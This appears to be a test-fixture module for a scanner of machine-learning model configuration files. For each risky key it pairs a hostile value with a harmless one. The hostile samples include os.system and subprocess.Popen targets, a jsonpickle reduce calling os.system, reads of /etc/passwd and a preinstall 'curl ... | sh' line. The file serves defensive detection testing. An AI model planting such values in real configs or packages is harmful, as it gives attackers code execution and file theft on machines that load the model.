"""Of every key of the table a mapping that makes its reader act and one that does not, and files of real models."""

from __future__ import annotations

from typing import Any

#: By key: what is in the mapping that has it, hostile and harmless, and the rule of the hostile one.
KEYS: dict[str, tuple[str, Any, Any]] = {
    "auto_map": ("config.remote-code", {"AutoModel": "modeling_x.XModel"}, {}),
    "custom_generate": ("config.other-repository", "someone/generate", None),
    "custom_pipelines": ("config.remote-code", {"p": {"impl": "p.P", "pt": ["AutoModel"]}}, {"p": {"type": "text"}}),
    "custom_pipeline": ("config.remote-code", "my_pipeline", None),
    "model_file": ("config.remote-code", "model.py", "model.onnx"),
    "trust_remote_code": ("config.remote-code", True, False),
    "trust-remote-code": ("config.remote-code", "true", "false"),
    "option.trust_remote_code": ("config.remote-code", "true", "false"),
    "allow_dangerous_code": ("config.remote-code", True, False),
    "use_remote_code": ("config.remote-code", True, None),
    "allow_remote": ("config.remote-code", True, False),
    "plugins": ("config.imports", ["http://127.0.0.1/p.whl"], []),
    "reasoning_parser_plugin": ("config.remote-code", "parser.py", ""),
    "tool_parser_plugin": ("config.remote-code", "/models/parser.py", "hermes"),
    "_attn_implementation_internal": ("config.other-repository", "evil/kernel", "flash_attention_2"),
    "_attn_implementation": ("config.other-repository", "evil/kernel@main:attend", "sdpa"),
    "attn_implementation": ("config.other-repository", {"text_config": "paged|evil/kernel"}, {"text_config": "eager"}),
    "_experts_implementation_internal": ("config.other-repository", "evil/kernel", "grouped_mm"),
    "_experts_implementation": ("config.other-repository", "evil/kernel", "eager"),
    "experts_implementation": ("config.other-repository", "evil/kernel", "batched_mm"),
    "kernel_config": ("config.other-repository", {"RMSNorm": {"cuda": "evil/norm:RMSNorm"}}, None),
    "use_kernels": ("config.other-repository", "evil/kernel", True),
    "_target_": ("config.dangerous-target", "os.system", "nemo.collections.asr.models.EncDecCTCModel"),
    "__target__": ("config.imports", "my_package.Net", "torch.nn.Linear"),
    "target": ("config.dangerous-target", "subprocess.Popen", "ldm.models.diffusion.ddpm.LatentDiffusion"),
    "class_path": ("config.imports", "mine.Net", "lightning.pytorch.callbacks.ModelCheckpoint"),
    "megatron_core": ("config.imports", "evil.core", "megatron.core"),
    "parent_library": ("config.imports", "evil", "transformers.models.llama.modeling_llama"),
    "tokenizer_class": ("config.imports", "evil.Tokenizer", "LlamaTokenizerFast"),
    "activation_function": ("config.imports", "evil.act", "torch.nn.modules.activation.Tanh"),
    "activation_fn": ("config.dangerous-target", "os.system", "torch.nn.modules.linear.Identity"),
    "sbert_ce_default_activation_function": ("config.imports", "evil.act", "torch.nn.modules.linear.Identity"),
    "class": ("config.dangerous-target", "builtins.eval", "gluonts.torch.model.predictor.PyTorchPredictor"),
    "custom_imports": ("config.imports", {"imports": ["evil.hook"]}, {"imports": ["mmdet.models"]}),
    "_instantiator": ("config.imports", "evil.make", "lightning.pytorch.cli.instantiate_module"),
    "type": ("config.imports", "evil.Component", "haystack.components.builders.PromptBuilder"),
    "user_dir": ("config.imports", "./plugin", None),
    "option.entryPoint": ("config.imports", "model.py", "djl_python.huggingface"),
    "worker_cls": ("config.imports", "evil.Worker", "auto"),
    "worker_extension_cls": ("config.imports", "evil.Worker", ""),
    "scheduler_cls": ("config.imports", "evil.Scheduler", None),
    "import_path": ("config.imports", "evil:app", None),
    "py/object": ("config.dangerous-target", "subprocess.Popen", "collections.OrderedDict"),
    "py/type": ("config.dangerous-target", "os.system", "builtins.int"),
    "py/function": ("config.dangerous-target", "os.system", None),
    "py/reduce": ("config.dangerous-target", [{"py/function": "os.system"}, {"py/tuple": ["id"]}], None),
    "py/repr": ("config.dangerous-target", "os/__import__('os')", None),
    "__class__": ("config.dangerous-target", "system", "DecisionTreeClassifier"),
    "id": (
        "config.dangerous-target",
        ["langchain_experimental", "tools", "PythonREPLTool"],
        ["langchain", "llms", "X"],
    ),
    "_type": ("config.dangerous-target", "llm_bash_chain", "prompt"),
    "allow_pickle": ("config.unpickles", True, False),
    "allow_dangerous_deserialization": ("config.unpickles", True, False),
    "enable_unsafe_deserialization": ("config.unpickles", True, False),
    "custom_ops_library": ("config.native-library", "ops.so", None),
    "custom_op_library": ("config.native-library", "ops.dll", ""),
    "ep_library_path": ("config.native-library", "libep.so", None),
    "transformers_weights": ("config.reads-outside", "../../other.safetensors", "model.safetensors"),
    "filename": ("config.reads-outside", "../../model.onnx", "model.onnx"),
    "index_path": ("config.reads-outside", "../../index.pkl", None),
    "passages_path": ("config.reads-outside", "file:///x", "passages"),
    "vocab_file": ("config.reads-outside", "../../etc/passwd", "vocab.json"),
    "tokenizer_file": ("config.reads-outside", "file:///etc/passwd", "tokenizer.json"),
    "merges_file": ("config.reads-outside", "\\\\server\\share\\merges.txt", "merges.txt"),
    "chat_template_file": ("config.reads-outside", "a/../../b", "chat_template.jinja"),
    "base_model_name_or_path": ("config.reads-outside", "file:///srv/model", "mistralai/Mistral-7B-v0.1"),
    "template_path": ("config.reads-outside", "/etc/passwd", "template.txt"),
    "prompt_path": ("config.reads-outside", "../x.json", "prompt.json"),
    "llm_path": ("config.reads-outside", "https://127.0.0.1/llm.json", "llm.json"),
    "llm_chain_path": ("config.reads-outside", "~/chain.json", "chain.json"),
    "example_prompt_path": ("config.reads-outside", "C:\\x.json", "example.json"),
    "backend-path": ("config.remote-code", ["backend"], []),
    "predict": ("config.remote-code", "predict.py:Predictor", True),
    "handler": ("config.remote-code", "handler.py", "text_classifier"),
    "preinstall": ("config.command", "curl http://127.0.0.1 | sh", None),
    "postinstall": ("config.command", "node x.js", ""),
}
#: What must be in the same mapping for a key to count.
BESIDE: dict[str, dict[str, Any]] = {
    "plugins": {"framework": "pytorch"},
    "target": {"params": {}},
    "class": {"__kind__": "instance"},
    "type": {"init_parameters": {}},
    "filename": {"session_options": {}},
    "import_path": {"route_prefix": "/"},
    "__class__": {"__loader__": "ObjectNode"},
    "id": {"lc": 1, "type": "constructor"},
    **{key: {"_type": "x"} for key in ("template_path", "prompt_path", "llm_path", "llm_chain_path")},
    "example_prompt_path": {"_type": "few_shot"},
}
#: The module beside skops' class, hostile and harmless.
MODULES = ("os", "sklearn.tree._classes")


def mapping(key: str, *, hostile: bool) -> dict[str, Any]:
    """Return the mapping that has a key with its hostile or harmless value, and what must be beside it."""
    _, bad, good = KEYS[key]
    found = {**BESIDE.get(key, {}), key: bad if hostile else good}
    return found | {"__module__": MODULES[not hostile]} if key == "__class__" else found
